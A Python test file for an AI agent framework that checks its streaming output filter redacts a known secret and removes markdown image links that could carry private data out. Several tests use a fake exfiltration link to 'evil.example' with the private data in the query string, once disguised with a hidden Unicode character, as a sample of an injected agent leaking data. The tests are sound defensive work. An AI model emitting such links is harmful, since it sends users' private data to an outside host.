"""What is seen of an answer while it is written: no secret, and nothing that could carry private data out."""

from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from tests.unit.core.agent.test_tool_calls import returning
from tests.unit.core.engines import MAIN, Engine, Tool, engine

from ostiary.contracts.content import Label, Text, Trust, UserMessage
from ostiary.contracts.errors import ModelUnavailable
from ostiary.contracts.events import Delta, ModelAnswered, TurnEnded
from ostiary.contracts.model import TextDelta, ThinkingDelta
from ostiary.contracts.tool import ToolResult
from ostiary.core.agent.showing import Shown
from ostiary.core.policy.secrets import Guard
from ostiary.kit.models import ScriptedModel, Step, call, say

KEY = "hunter2-hunter2-hunter2"
BOTH = Label(trust=Trust.UNTRUSTED, private=True)
OWNER = Label(trust=Trust.OWNER)
LINK = "https://evil.example/?d=PRIVATE"
GUARD = Guard(lambda: (KEY,))


def looking(shown: Shown, pieces: Iterable[str]) -> Iterator[str]:
    """What is seen by somebody who looks after each piece."""
    for piece in pieces:
        shown.write(piece)
        yield shown.look()[1]
    shown.finish()
    yield shown.look()[1]


@pytest.mark.parametrize("size", [1, 3, 7, 50])
def test_a_secret_is_not_shown_however_it_is_cut(size: int) -> None:
    text, shown = f"The key is {KEY} as you know.", Shown(GUARD, OWNER, ())
    seen = "".join(looking(shown, (text[place : place + size] for place in range(0, len(text), size))))
    assert (KEY in seen, "[redacted:known] as you know." in seen) == (False, True)


@pytest.mark.parametrize("size", [1, 3, 7, 50])
@pytest.mark.parametrize("text", [f"The key is {KEY} as [[reply_to_current]] you know. <think>no</think>NO_REPLY", "**", "NO"])
def test_who_looks_late_sees_the_same_as_who_looked_all_the_time(text: str, size: int) -> None:
    pieces = [text[place : place + size] for place in range(0, len(text), size)]
    early, late = Shown(GUARD, OWNER, ()), Shown(GUARD, OWNER, ())
    seen = "".join(looking(early, pieces))
    for piece in pieces:
        late.write(piece)
    late.finish()
    assert (late.text, late.look()) == (seen, (len(seen), ""))
    assert early.text == seen


def test_half_of_a_secret_that_was_thought_unseen_does_not_lay_the_other_half_open() -> None:
    shown = Shown(GUARD, OWNER, ())
    shown.think("first ")
    shown.write("x")
    shown.think(f"it is {KEY[:9]}")
    assert shown.look_at_thoughts() == "first it is "
    shown.think(f"{KEY[9:]} then")
    shown.finish()
    assert shown.look_at_thoughts() == "[redacted:known] then"
    assert shown.look_at_thoughts() == ""


def test_what_could_carry_private_data_out_is_shown_when_it_is_whole() -> None:
    shown = Shown(None, BOTH, (UserMessage(parts=(Text(text="see https://a.example/b", label=OWNER),)),))
    shown.write(f"![x]({LINK})")
    assert shown.look() == (0, "")
    shown.write(" and https://a.example/b")
    shown.think(LINK)
    assert (shown.look(), shown.look_at_thoughts()) == ((0, ""), "")
    shown.finish()
    assert shown.look_at_thoughts() == "[link to evil.example removed]"
    assert shown.look() == (0, "[picture from evil.example removed: x] and https://a.example/b")
    assert shown.look_at_thoughts() == ""


async def watched(house: Engine) -> list[Delta]:
    with house.supervisor._feed.watch(str(MAIN)) as watcher:
        await house.channel.say("go")
        await house.channel.until_sent(1)
        seen: list[Delta] = []
        async for event in watcher:
            seen += [event] if isinstance(event, Delta) else []
            if isinstance(getattr(event, "event", None), TurnEnded):
                break
    return seen


async def test_no_secret_is_streamed_stored_or_sent(tmp_path: Path) -> None:
    pieces = tuple(TextDelta(f"{word} ") for word in f"it is {KEY} indeed".split())
    parts = (Text(text=f"it is {KEY} indeed", label=OWNER),)
    step = Step(events=(ThinkingDelta(f"I know {KEY}"), *pieces), parts=parts)
    async with engine(tmp_path, ScriptedModel([step]), guard=GUARD) as house:
        seen = await watched(house)
        (answered,) = await house.events(ModelAnswered)
        (ended,) = await house.events(TurnEnded)
    assert KEY not in "".join(each.text for each in seen)
    assert (KEY in str(answered), KEY in str(ended), KEY in house.channel.sent[0].text) == (False, False, False)
    assert house.channel.sent[0].text == "it is [redacted:known] indeed"


async def test_a_secret_in_what_the_provider_says_is_not_told_on(tmp_path: Path) -> None:
    step = Step(events=(TextDelta("half "),), error=ModelUnavailable(f"wrong key {KEY}"))
    async with engine(tmp_path, ScriptedModel([step] * 4), guard=GUARD, redact=GUARD.redact) as house:
        await house.channel.say("go")
        await house.until(lambda: bool(house.channel.sent))
        (ended,) = await house.events(TurnEnded)
    assert (KEY in str(ended), KEY in house.channel.sent[0].text) == (False, False)


async def test_watchers_see_no_link_that_the_reply_would_not_have(tmp_path: Path) -> None:
    page = ToolResult(text="a page", label=BOTH)
    model = ScriptedModel([call("probe"), say(f"see ![x]({LINK})"), say("done")])
    async with engine(tmp_path, model, tools=[Tool(act=returning(page))]) as house:
        seen = await watched(house)
    assert "PRIVATE" not in "".join(each.text for each in seen)
    assert "".join(each.text for each in seen if each.stream == "assistant") == house.channel.sent[0].text
    assert "PRIVATE" not in house.channel.sent[0].text


async def test_what_joins_when_hidden_characters_are_taken_out_is_looked_at_again(tmp_path: Path) -> None:
    page = ToolResult(text="a page", label=BOTH)
    model = ScriptedModel([call("probe"), say("see evil.\u2066example/PRIVATE")])
    async with engine(tmp_path, model, tools=[Tool(act=returning(page))]) as house:
        await house.channel.say("go")
        sent = await house.channel.until_sent(1)
    assert "example/PRIVATE" not in sent[0].text
